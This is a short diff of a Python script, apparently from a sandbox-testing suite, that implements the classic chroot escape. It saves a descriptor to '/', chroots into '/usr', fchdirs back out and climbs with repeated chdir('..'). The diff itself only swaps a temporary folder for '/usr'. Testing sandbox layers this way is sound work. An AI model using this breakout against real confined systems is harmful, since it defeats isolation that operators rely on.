@@ -4,13 +4,8 @@ layers: seccomp, capabilities, mounts
 """
 from attack import *
 
-folder = f"/tmp/root-{os.getpid()}"
-os.mkdir(folder)
 outside = os.open("/", os.O_RDONLY)
-try:
-    os.chroot(folder)
-finally:
-    os.rmdir(folder)
+os.chroot("/usr")
 os.fchdir(outside)
 for _ in range(64):
     os.chdir("..")
